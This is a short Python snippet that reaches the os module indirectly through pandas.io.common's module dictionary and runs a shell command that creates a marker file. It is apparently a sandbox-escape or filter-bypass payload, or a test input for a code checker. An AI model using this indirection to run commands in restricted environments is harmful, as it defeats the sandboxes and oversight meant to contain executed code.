import pandas.io.common as c
from collections import deque
[r.__dict__ for r in deque([c])][0]["os"].system("touch pf")
